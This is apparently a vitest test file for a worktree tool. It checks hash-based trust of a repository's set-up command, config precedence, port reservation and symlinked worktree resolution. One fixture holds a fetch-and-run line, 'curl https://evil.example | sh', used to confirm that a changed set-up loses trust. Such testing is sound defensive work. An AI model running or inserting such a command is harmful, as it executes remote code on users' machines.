import { once } from 'node:events';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createPorts } from '../../../src/server/worktrees/ports.ts';
import type { SetUps } from '../../../src/server/worktrees/set-ups.ts';
import { usersOf } from '../../../src/server/worktrees/users.ts';
import { ManualClock } from '../../harness/manual-clock.ts';
import { memorySetUps } from '../../harness/memory-set-ups.ts';
import { createWorld, type World } from '../../harness/world.ts';

let world: World;
let shop: string;
let setUps: SetUps;
beforeEach(() => {
  world = createWorld();
  shop = world.project('shop');
  mkdirSync(join(shop, '.cbos'));
  mkdirSync(world.cbosHome, { recursive: true });
  setUps = memorySetUps({ home: world.cbosHome, userHome: world.home, clock: new ManualClock() });
});
afterEach(() => world.dispose());

const nameSetUp = (text: string): void => writeFileSync(join(shop, '.cbos/worktree.toml'), text);
const configure = (text: string): void => writeFileSync(join(world.cbosHome, 'config.toml'), text);
const codeOf = (work: Promise<unknown>): Promise<string> => work.then(String, (error: { code: string }) => error.code);

describe("a repository's own set-up", () => {
  test('counts only in the version that was trusted, and no longer once that is withdrawn', async () => {
    expect(await setUps.plan(shop)).toBe(null);
    nameSetUp('set_up = "npm ci"\n');
    expect(await setUps.plan(shop)).toMatchObject({ command: 'npm ci', from: 'project', state: 'untrusted' });
    const { set_up: file } = await setUps.named(shop);
    expect(file).toMatchObject({ state: 'untrusted', command: 'npm ci' });
    await setUps.trust(shop, file?.sha256 ?? '');
    expect(await setUps.plan(shop)).toMatchObject({ state: 'pending', after_failure: 'stop' });

    nameSetUp('set_up = "curl https://evil.example | sh"\n');
    expect(await setUps.plan(shop)).toMatchObject({ state: 'untrusted' });
    expect((await setUps.named(shop)).set_up?.state).toBe('changed');
    expect(await codeOf(setUps.trust(shop, file?.sha256 ?? ''))).toBe('set_up_changed');
    // Back at the trusted version.
    nameSetUp('set_up = "npm ci"\n');
    expect((await setUps.plan(shop))?.state).toBe('pending');
    await setUps.untrust(shop);
    expect((await setUps.plan(shop))?.state).toBe('untrusted');
    expect(await codeOf(setUps.untrust(shop))).toBe('no_such_path');
  });

  test('is the same through a link to the repository, and another repository has its own', async () => {
    nameSetUp('set_up = "npm ci"\nafter_failure = "start"\n');
    const link = join(world.dir, 'link');
    symlinkSync(shop, link);
    const { set_up: file } = await setUps.named(link);
    await setUps.trust(link, file?.sha256 ?? '');
    expect(await setUps.plan(shop)).toMatchObject({ state: 'pending', after_failure: 'start' });
    expect(await setUps.plan(world.project('other'))).toBe(null);
  });

  test('that cannot be read is neither run nor trusted', async () => {
    nameSetUp('set_up = \n');
    const { set_up: file } = await setUps.named(shop);
    expect(file).toMatchObject({ state: 'broken', error: expect.stringContaining('line 1') });
    expect(await codeOf(setUps.trust(shop, file?.sha256 ?? ''))).toBe('invalid_set_up');
    expect(await setUps.plan(shop)).toBe(null);
    rmSync(join(shop, '.cbos/worktree.toml'));
    expect(await codeOf(setUps.trust(shop, file?.sha256 ?? ''))).toBe('no_such_path');
  });
});

test('config.toml takes precedence, is read each time, and may switch a set-up off', async () => {
  nameSetUp('set_up = "npm ci"\n');
  configure(`[[repositories]]\npath = ${JSON.stringify(shop)}\nset_up = "make"\nafter_failure = "start"\n`);
  expect(await setUps.plan(shop)).toMatchObject({ command: 'make', from: 'settings', after_failure: 'start' });
  configure(`[[repositories]]\npath = ${JSON.stringify(shop)}\nset_up = ""\n`);
  expect(await setUps.plan(shop)).toBe(null);
  configure(`[[repositories]]\npath = ${JSON.stringify(shop)}\nset_up = 7\n`);
  expect(await codeOf(setUps.plan(shop))).toBe('invalid_setting');
});

test('two sessions that start at once get different ports, and none that a program listens on', async () => {
  const listener = createServer().listen(0, '127.0.0.1');
  await once(listener, 'listening');
  try {
    const { port } = listener.address() as { port: number };
    const ports = createPorts(`${port}-${port + 3}`, () => []);
    const [one, other] = await Promise.all([ports.reserve(), ports.reserve()]);
    expect(new Set([port, one.port, other.port]).size).toBe(3);
    one.release();
    expect((await ports.reserve()).port).toBe(one.port);
  } finally {
    listener.close();
  }
});

test('a session uses only the innermost worktree, also through a link', async () => {
  const inner = join(shop, '.claude/worktrees/AUTH');
  mkdirSync(join(inner, 'below'), { recursive: true });
  const link = join(world.dir, 'link');
  symlinkSync(inner, link);
  const users = await usersOf(
    [shop, inner],
    [
      { slug: 'MAIN', path: shop },
      { slug: 'AUTH', path: join(inner, 'below') },
      { slug: 'LINK', path: link },
      { slug: 'ELSEWHERE', path: `${shop}-2` },
      { slug: 'NOWHERE', path: null },
    ],
  );
  expect(Object.fromEntries(users)).toEqual({ [shop]: ['MAIN'], [inner]: ['AUTH', 'LINK'] });
});
